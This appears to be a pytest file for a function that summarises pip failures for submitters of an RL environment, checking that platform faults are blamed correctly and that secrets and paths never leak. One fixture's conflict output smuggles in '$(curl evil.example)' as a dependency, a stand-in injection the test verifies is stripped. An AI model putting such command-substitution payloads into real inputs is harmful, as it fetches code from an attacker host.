"""pip's failures told to people: platform faults apart from the submitter's, never pip's words.

The outputs below are what pip 26 printed on this machine (trimmed); the summaries are pure logic.
"""

from __future__ import annotations

import pytest

from jobs.images.requirements.failures import pip_failure
from jobs.images.requirements.target import Target
from rl_arena_app.errors import BadAgent, InfrastructureError

TARGET = Target("3.11", ("manylinux_2_17_x86_64",))
SECRET = "canary-in-pip-output-6f0e"  # e.g. a proxy password pip repeats in a warning
NETWORK = f"""\
WARNING: Retrying (Retry(total=4, connect=None, read=None, redirect=None, status=None)) after \
connection broken by 'NewConnectionError(': Failed to establish a new connection: [Errno 111] \
Connection refused')': http://user:{SECRET}@proxy.internal:3128/simple/six/
ERROR: Could not find a version that satisfies the requirement six (from versions: none)
ERROR: No matching distribution found for six
"""
DISK = f"""\
Collecting six==1.17.0 (from -r /tmp/rl-arena-pip-x/pinned.txt (line 1))
ERROR: Could not install packages due to an OSError: [Errno 28] No space left on device: \
'/srv/{SECRET}/wheels/sets/.staging-1/site/six.py'
"""
HASHES = f"""\
ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.
    six==1.17.0 from https://files.example/{SECRET}/six-1.17.0-py2.py3-none-any.whl:
        Expected sha256 4721f391
             Got        0000
"""
CONFLICT = """\
Collecting requests==2.31.0 (from -r /tmp/rl-arena-pip-msggjveh/requested.txt (line 1))
ERROR: Cannot install -r /tmp/rl-arena-pip-msggjveh/requested.txt (line 1) and urllib3==1.20 \
because these package versions have conflicting dependencies.

The conflict is caused by:
    The user requested urllib3==1.20
    requests 2.31.0 depends on urllib3<3 and >=1.21.1
    evil 1.0 depends on $(curl evil.example)

ERROR: ResolutionImpossible: for help visit https://pip.pypa.io/en/latest/topics/dependency-\
resolution/#dealing-with-dependency-conflicts
"""
DEPENDENCY = """\
ERROR: Could not find a version that satisfies the requirement charset-normalizer<4,>=2 (from \
requests) (from versions: 1.0.0, not-a-version, 3.3.2)
ERROR: No matching distribution found for charset-normalizer<4,>=2
"""
UNKNOWN = f"""\
ERROR: Something pip never said before about {SECRET}
"""


@pytest.mark.parametrize(("output", "phrase"), [
    (NETWORK, "the package index could not be reached"),
    (DISK, "the worker's disk is full"),
    (HASHES, "served other files than it listed"),
])
def test_platform_faults_are_the_platforms_and_repeat_nothing(output: str, phrase: str) -> None:
    failure = pip_failure(output, ["six"], TARGET)

    assert isinstance(failure, InfrastructureError)
    assert phrase in str(failure)
    assert SECRET not in str(failure) and "/tmp/" not in str(failure)


def test_a_conflict_names_the_submitters_lines_and_only_clean_causes() -> None:
    failure = pip_failure(CONFLICT, ["requests==2.31.0", "urllib3==1.20"], TARGET)

    assert isinstance(failure, BadAgent)
    message = str(failure)
    assert "version conflict between 'requests==2.31.0' and 'urllib3==1.20'" in message
    assert "requests 2.31.0 needs urllib3<3,>=1.21.1" in message
    assert "curl" not in message and "rl-arena-pip" not in message and "pip.pypa" not in message


def test_a_dependency_without_a_wheel_is_named_as_one() -> None:
    failure = pip_failure(DEPENDENCY, ["requests==2.31.0"], TARGET)

    message = str(failure)
    assert "charset-normalizer (a dependency of your requirements)" in message
    assert "releases with one include 1.0.0, 3.3.2" in message and "not-a-version" not in message


def test_an_unknown_project_is_told_apart_from_one_without_wheels() -> None:
    output = ("ERROR: Could not find a version that satisfies the requirement nosuch==1.0 "
              "(from versions: none)\n")
    unknown = pip_failure(output, ["nosuch==1.0"], TARGET, project_exists=lambda name: False)
    no_wheel = pip_failure(output, ["nosuch==1.0"], TARGET, project_exists=lambda name: True)

    assert "there is no project nosuch on the package index" in str(unknown)
    assert "'nosuch==1.0' has no binary wheel for Python 3.11" in str(no_wheel)


def test_anything_else_is_the_submitters_without_pips_words() -> None:
    failure = pip_failure(UNKNOWN, ["six"], TARGET)

    assert isinstance(failure, BadAgent)
    assert SECRET not in str(failure) and "worker log has the details" in str(failure)
